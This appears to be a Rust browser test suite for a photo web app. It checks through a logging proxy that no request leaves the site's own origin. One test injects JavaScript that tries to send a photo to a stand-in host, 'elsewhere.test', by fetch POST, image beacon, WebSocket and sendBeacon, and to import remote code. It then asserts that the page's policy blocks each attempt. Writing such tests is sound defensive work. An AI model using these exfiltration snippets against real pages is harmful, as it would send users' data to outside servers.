//! Photos never leave the machine: requests go only to the site's own server, and others are stopped.

use std::sync::{Arc, Mutex};
use std::time::Duration;

use serde_json::json;
use tokio::io::{AsyncBufReadExt, AsyncWriteExt, BufReader};

use crate::browser::{Browser, sample};
use crate::site::Site;

/// Hosts to which Chromium itself sends requests, with or without a page: for the time, updates, forms and accounts.
const CHROMIUM_HOSTS: [&str; 6] = [
    "clients2.google.com",
    "update.googleapis.com",
    "accounts.google.com",
    "content-autofill.googleapis.com",
    "optimizationguide-pa.googleapis.com",
    "safebrowsing.googleapis.com",
];

/// Start a proxy that logs every request and answers with an error. Return the browser's flag for it, and the log.
/// Browsers use no proxy for the machine itself.
async fn proxy() -> (String, Arc<Mutex<Vec<String>>>) {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let (flag, requests) = (format!("--proxy-server=http://{}", listener.local_addr().unwrap()), Arc::default());
    let log: Arc<Mutex<Vec<String>>> = Arc::clone(&requests);
    tokio::spawn(async move {
        while let Ok((stream, _)) = listener.accept().await {
            let log = log.clone();
            tokio::spawn(async move {
                let mut line = String::new();
                let mut stream = BufReader::new(stream);
                let _ = stream.read_line(&mut line).await;
                log.lock().unwrap().push(line.trim().to_owned());
                let _ = stream
                    .write_all(b"HTTP/1.1 502 Bad Gateway\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
                    .await;
            });
        }
    });
    (flag, requests)
}

#[tokio::test(flavor = "multi_thread")]
async fn no_request_leaves_the_origin() {
    let (flag, requests) = proxy().await;
    let (site, browser) = (Site::built().await, Browser::start_with(&[&flag]).await);
    browser.open(&site.url).await;
    browser.add_photos(&[&sample("cat.png")]).await;
    browser.wait_for("[data-testid=photo-card][data-state=done]", 1).await;
    browser.wait("[data-kept=all]").await;
    for tab in ["check", "teach", "about"] {
        browser.click(&format!("[data-testid=tab-{tab}]")).await;
        browser.wait(&format!("#{tab} > *:not(.waiting)")).await;
    }
    assert_eq!(browser.text("[data-testid=bytes-sent]").await, "0");
    assert_eq!(browser.text("[data-testid=requests-stopped]").await, "0");
    browser.screenshot("privacy").await;
    let cookies = browser.client.get_all_cookies().await.unwrap();
    assert!(cookies.is_empty(), "{cookies:?}");
    assert!(site.requests().len() > 20, "{:?}", site.requests());
    let mut all = requests.lock().unwrap().clone();
    all.retain(|line| !CHROMIUM_HOSTS.iter().any(|host| line.contains(host)));
    assert_eq!(all, [""; 0]);

    // A request to another host does reach the proxy.
    let open = "open('http://elsewhere.test/'); return true";
    browser.run(open, vec![]).await;
    tokio::time::sleep(Duration::from_secs(2)).await;
    assert!(requests.lock().unwrap().iter().any(|line| line.contains("elsewhere.test")));
    browser.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn what_tries_to_get_out_is_stopped_and_counted() {
    let (flag, requests) = proxy().await;
    let (site, browser) = (Site::built().await, Browser::start_with(&[&flag]).await);
    browser.open(&format!("{}/?device=cpu&model=resnet-20", site.url)).await;
    browser.wait("[data-kept=site], [data-kept=all]").await;
    browser.click("[data-testid=tab-about]").await;
    browser.wait("[data-testid=bytes-sent]").await;

    let attempts = "/* Code that a WebDriver script runs directly is not subject to the policy; a timer's is. */ \
        const fails = (attempt) => { try { return Promise.resolve(attempt()).then(() => false, () => true); } catch { return true; } }; \
        const done = arguments[arguments.length - 1]; \
        Promise.all([ \
            fails(() => fetch('http://elsewhere.test/photo', { method: 'POST', body: 'a photo' })), \
            fails(() => new Promise((ok, no) => { const image = new Image(); image.onload = ok; image.onerror = no; image.src = 'http://elsewhere.test/?photo'; })), \
            fails(() => new Promise((ok, no) => { const socket = new WebSocket('ws://elsewhere.test/'); socket.onopen = ok; socket.onerror = no; })), \
            fails(() => import('http://elsewhere.test/code.js')), \
            new Promise((done) => setTimeout(() => { try { eval('1'); done(false); } catch { done(true); } })), \
            fails(() => fetch('./', { method: 'POST', body: '12345' })), \
        ]).then((all) => { navigator.sendBeacon('http://elsewhere.test/', 'a photo'); done(all); })";
    let failed = browser.client.execute_async(attempts, vec![]).await.unwrap();
    assert_eq!(failed, json!([true, true, true, true, true, true]));
    tokio::time::sleep(Duration::from_secs(1)).await;
    assert_eq!(browser.text("[data-testid=bytes-sent]").await, "5");
    let stopped: usize = browser.text("[data-testid=requests-stopped]").await.parse().unwrap();
    assert!(stopped >= 6, "{stopped}");
    let escaped: Vec<_> = requests.lock().unwrap().iter().filter(|line| line.contains("elsewhere")).cloned().collect();
    assert_eq!(escaped, [""; 0]);

    // A worker has the policy of its own file, so that must be the page's policy.
    let same = "const policy = document.querySelector('[http-equiv=Content-Security-Policy]').content; \
        return fetch('./engine_loader.js?device=cpu').then((answer) => answer.headers.get('Content-Security-Policy') === policy)";
    assert_eq!(browser.run(same, vec![]).await, json!(true));
    browser.close().await;
}
